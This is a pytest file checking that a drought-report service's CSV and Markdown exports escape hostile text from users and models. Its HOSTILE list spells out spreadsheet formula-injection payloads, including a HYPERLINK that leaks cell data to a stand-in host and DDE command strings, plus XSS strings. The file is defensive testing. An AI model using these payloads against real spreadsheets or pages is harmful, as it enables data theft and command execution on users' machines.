"""Batch reports with hostile text from users (region names, batch names) and models
(summaries, factors, recommendations): CSV cells never run as formulas, Markdown never carries
markup or breaks its table."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from markdown_it import MarkdownIt

from shared import reports
from shared.escaping import csv_cell, markdown_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\x00=1+1",
    "\x1b[31m=red",
    "<script>alert(1)</script>", "| x | y |", "<img src=x onerror=alert(1)>", "# Heading",
    "- item", "1. first", "[link](javascript:alert(1))", "`code` **bold** _it_ ~~s~~",
    "line one\n# two\n| a | b |\n```", "&lt;b&gt; &amp;", "a\\|b",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def drought(region: str, summary: str = "Dry.", factor: str = "Low rain",
            risk: str = "high", confidence: float = 0.8) -> dict[str, str]:
    analysis = {"risk_level": risk, "confidence": confidence, "summary": summary,
                "key_factors": [factor, "Soil"],
                "recommendations": [{"action": summary, "urgency": "this_week",
                                     "audience": "farmer"}]}
    return {"id": f"j{abs(hash(region)) % 10**8}", "status": "succeeded", "type": "drought",
            "input": json.dumps({"region": region}), "result": json.dumps({"analysis": analysis})}


def failed(region: str, message: str) -> dict[str, str]:
    return {"id": "jf", "status": "failed", "input": json.dumps({"region": region}),
            "error": json.dumps({"type": "invalid_model_output", "message": message})}


def hostile_rows() -> list[dict[str, Any]]:
    records = [drought(text, summary=text, factor=text) for text in HOSTILE]
    records.append(failed("=cmd()", "<b>bad</b> =1+1"))
    return reports.ranked(records)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_never_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", cell)
    if text.startswith((*FORMULA_START, "\x00", "\x1b")):
        assert cell.startswith("'")


@pytest.mark.parametrize(("value", "expected"), [
    ("-1.7", "-1.7"), ("-12", "-12"), ("3e-4", "3e-4"), (-1.7, -1.7), (0.0, 0.0), (None, ""),
    ("Canterbury", "Canterbury"), ("Hawke's Bay - east", "Hawke's Bay - east"),
    ("-1.7 and falling", "'-1.7 and falling"), ("+64", "'+64"), ("1+1", "1+1"),
])
def test_csv_cell_keeps_numbers_and_plain_text(value: Any, expected: Any) -> None:
    assert csv_cell(value) == expected


def test_csv_report_has_no_formula_cells() -> None:
    table = list(csv.reader(io.StringIO(reports.to_csv(hostile_rows()))))
    assert table[0][:2] == ["region", "risk_level"]
    assert len(table) == len(HOSTILE) + 2
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", cell), cell
    regions = {row[0] for row in table[1:]}
    assert "'=cmd()" in regions and "'\t=1+1" in regions and "'=1+1" in regions


def test_csv_report_keeps_confidence_numeric() -> None:
    rows = reports.ranked([drought("-1.7", confidence=0.25), drought("Zero", confidence=0.0)])
    table = list(csv.DictReader(io.StringIO(reports.to_csv(rows))))
    assert [(r["region"], r["confidence"]) for r in table] == [("-1.7", "0.25"), ("Zero", "0.0")]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_renders_as_itself(text: str) -> None:
    html = MarkdownIt("commonmark", {"html": True}).renderInline(markdown_text(text))
    assert "<" not in html.replace("&lt;", "")  # no tag of any kind: not even <em> or <code>
    visible = html.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace(
        "&amp;", "&")
    flat = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", " ".join(text.split()))
    assert visible == flat


def test_markdown_report_keeps_its_table_and_carries_no_html() -> None:
    rows = hostile_rows()
    text = reports.markdown("<b>nightly</b> | =1", rows)
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    for tag in ("<script", "<img", "<b>", "<a ", "<code", "<strong>bold", "<em>", "<s>", "<ol",
                "<blockquote", "<pre"):
        assert tag not in html, tag
    assert html.count("<h1>") == 1 and html.count("<table>") == 1
    assert html.count("<h2>") == len(HOSTILE) + 1  # one per region, and Failures
    body = html.split("<tbody>")[1].split("</tbody>")[0]
    assert body.count("<tr>") == len(HOSTILE)
    assert all(row.count("<td>") == 4 for row in body.split("<tr>")[1:])
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_markdown_report_still_reads_plainly() -> None:
    text = reports.markdown("nightly", reports.ranked([drought("Canterbury")]))
    assert text.startswith("# Drought report: nightly\n")
    assert "| Canterbury | high | 0.80 | Low rain; Soil |" in text
